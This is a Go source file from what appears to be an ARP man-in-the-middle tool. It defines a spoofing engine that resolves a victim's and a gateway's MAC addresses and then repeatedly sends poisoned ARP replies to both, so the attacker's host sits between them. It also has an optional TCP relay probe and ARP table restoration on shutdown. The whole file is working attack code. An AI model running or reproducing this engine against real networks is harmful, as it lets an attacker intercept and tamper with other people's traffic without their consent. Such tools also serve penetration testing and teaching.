package spoofer

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"sync"
	"time"

	"arpmitm/internal/link"
	"arpmitm/internal/models"

	"github.com/sirupsen/logrus"
)

const (
	DefaultInterval      = 3 * time.Second
	DefaultRelayInterval = 1 * time.Second
)

// Config tunes an Engine. Zero values fall back to the defaults.
type Config struct {
	Interval       time.Duration
	ResolveTimeout time.Duration
	ResolveRetries *int
	RestoreCopies  int
	RestoreGap     time.Duration

	// Relay enables the manual TCP relay probe after every poison round.
	Relay        bool
	// RelayInput supplies acknowledgment numbers when Relay is set.
	RelayInput   io.Reader
	// RelayTimeout bounds each relay response wait. Zero waits until interrupted.
	RelayTimeout time.Duration
}

func applyDefaults(cfg Config) Config {
	if cfg.Interval <= 0 {
		cfg.Interval = DefaultInterval
		if cfg.Relay {
			cfg.Interval = DefaultRelayInterval
		}
	}
	if cfg.ResolveTimeout <= 0 {
		cfg.ResolveTimeout = DefaultResolveTimeout
	}
	if cfg.ResolveRetries == nil || *cfg.ResolveRetries < 0 {
		retries := DefaultResolveRetries
		cfg.ResolveRetries = &retries
	}
	if cfg.RestoreCopies <= 0 {
		cfg.RestoreCopies = DefaultRestoreCopies
	}
	if cfg.Relay && cfg.RelayInput == nil {
		cfg.RelayInput = os.Stdin
	}
	return cfg
}

// Status is a point-in-time view of an Engine.
type Status struct {
	State       State
	Session     models.Session
	Local       models.HostAddress
	Cycles      int
	PoisonSent  int
	RestoreSent int
	StartedAt   time.Time
	LastError   error
}

// Engine runs one poisoning session between a victim and its gateway.
type Engine struct {
	cfg      Config
	local    models.HostAddress
	resolver *Resolver
	injector *Injector
	relay    *Relay
	log      *logrus.Entry
	hooks    []func(State)

	mu     sync.Mutex
	status Status
}

// Option customizes an Engine.
type Option func(*Engine)

// WithStateHook registers fn to be called on every state transition.
func WithStateHook(fn func(State)) Option {
	return func(e *Engine) {
		e.hooks = append(e.hooks, fn)
	}
}

// NewEngine builds an engine that sends and receives every frame through t.
// local is the attacker's own address on that link.
func NewEngine(t link.Transport, local models.HostAddress, cfg Config, log *logrus.Entry, opts ...Option) *Engine {
	cfg = applyDefaults(cfg)

	e := &Engine{
		cfg:      cfg,
		local:    local,
		resolver: NewResolver(t, local, log),
		injector: NewInjector(t, local, log),
		log:      log,
		status:   Status{State: StateInit, Local: local},
	}
	e.resolver.Timeout = cfg.ResolveTimeout
	e.resolver.Retries = *cfg.ResolveRetries
	e.injector.Copies = cfg.RestoreCopies
	e.injector.Gap = cfg.RestoreGap

	if cfg.Relay {
		e.relay = NewRelay(t, local, cfg.RelayInput, log)
		e.relay.Timeout = cfg.RelayTimeout
	}

	for _, opt := range opts {
		opt(e)
	}
	return e
}

// Status returns a copy of the current status.
func (e *Engine) Status() Status {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.status
}

func (e *Engine) State() State {
	return e.Status().State
}

func (e *Engine) setState(s State) {
	e.mu.Lock()
	e.status.State = s
	e.mu.Unlock()

	e.log.WithField("state", s).Debug("State changed")
	for _, fn := range e.hooks {
		fn(s)
	}
}

func (e *Engine) update(fn func(*Status)) {
	e.mu.Lock()
	fn(&e.status)
	e.mu.Unlock()
}

// Run resolves both hosts and poisons them until ctx is cancelled, then
// restores their ARP tables. Cancellation is the normal way to stop and is
// not reported as an error. If either host cannot be resolved nothing is
// poisoned and nothing is restored.
func (e *Engine) Run(ctx context.Context, victimIP, gatewayIP net.IP) error {
	if e.relay != nil {
		defer e.relay.Close()
	}

	session := models.Session{
		Victim:  models.HostAddress{IP: victimIP.To4()},
		Gateway: models.HostAddress{IP: gatewayIP.To4()},
	}
	if session.Victim.IP == nil || session.Gateway.IP == nil {
		e.setState(StateStopped)
		return fmt.Errorf("invalid IPv4 addresses: victim %s, gateway %s", victimIP, gatewayIP)
	}

	e.update(func(s *Status) { s.Session = session })
	e.setState(StateResolving)
	if err := e.resolve(ctx, &session); err != nil {
		if ctx.Err() != nil {
			e.setState(StateStopped)
			return nil
		}
		e.update(func(s *Status) { s.LastError = err })
		e.setState(StateStopped)
		return err
	}

	e.update(func(s *Status) { s.StartedAt = time.Now() })

	log := e.log.WithFields(logrus.Fields{"victim": session.Victim.IP, "gateway": session.Gateway.IP})
	log.Info("+++ ARP spoofing started")
	log.WithFields(logrus.Fields{"gateway_mac": session.Gateway.MAC, "victim_mac": session.Victim.MAC}).
		Infof("Poisoning ARP tables [%s] -> [%s]", session.Gateway.MAC, session.Victim.MAC)

	e.setState(StatePoisoning)
	loopErr := e.poison(ctx, session)
	if loopErr != nil {
		e.update(func(s *Status) { s.LastError = loopErr })
	}

	e.setState(StateRestoring)
	sent, restoreErr := e.injector.Restore(session.Victim, session.Gateway)
	e.update(func(s *Status) { s.RestoreSent += sent })
	if restoreErr != nil {
		log.WithError(restoreErr).Error("ARP table restoration incomplete")
	} else {
		log.WithField("frames", sent).Info("--- ARP spoofing ended, ARP tables restored")
	}
	e.setState(StateStopped)

	return errors.Join(loopErr, restoreErr)
}

func (e *Engine) resolve(ctx context.Context, session *models.Session) error {
	for _, host := range []*models.HostAddress{&session.Victim, &session.Gateway} {
		e.log.WithField("ip", host.IP).Info("Resolving MAC address")
		mac, err := e.resolver.Resolve(ctx, host.IP)
		if err != nil {
			return fmt.Errorf("could not find MAC address: %w", err)
		}
		host.MAC = mac
		resolved := *session
		e.update(func(s *Status) { s.Session = resolved })
		e.log.WithFields(logrus.Fields{"ip": host.IP, "mac": mac}).Info("Resolved MAC address")
	}
	return nil
}

// poison repeats one poison round per interval. It returns nil once ctx is
// done and the first transport or relay error otherwise.
func (e *Engine) poison(ctx context.Context, session models.Session) error {
	timer := time.NewTimer(0)
	defer timer.Stop()

	for {
		select {
		case <-ctx.Done():
			return nil
		case <-timer.C:
		}

		// Gateway to victim, then victim to gateway.
		if err := e.injector.Poison(session.Gateway.IP, session.Victim.IP, session.Victim.MAC); err != nil {
			return err
		}
		e.update(func(s *Status) { s.PoisonSent++ })
		if err := e.injector.Poison(session.Victim.IP, session.Gateway.IP, session.Gateway.MAC); err != nil {
			return err
		}
		e.update(func(s *Status) {
			s.PoisonSent++
			s.Cycles++
		})

		if e.relay != nil {
			if err := e.relay.Probe(ctx, session); err != nil {
				if ctx.Err() != nil {
					return nil
				}
				return fmt.Errorf("relay probe: %w", err)
			}
		}

		timer.Reset(e.cfg.Interval)
	}
}
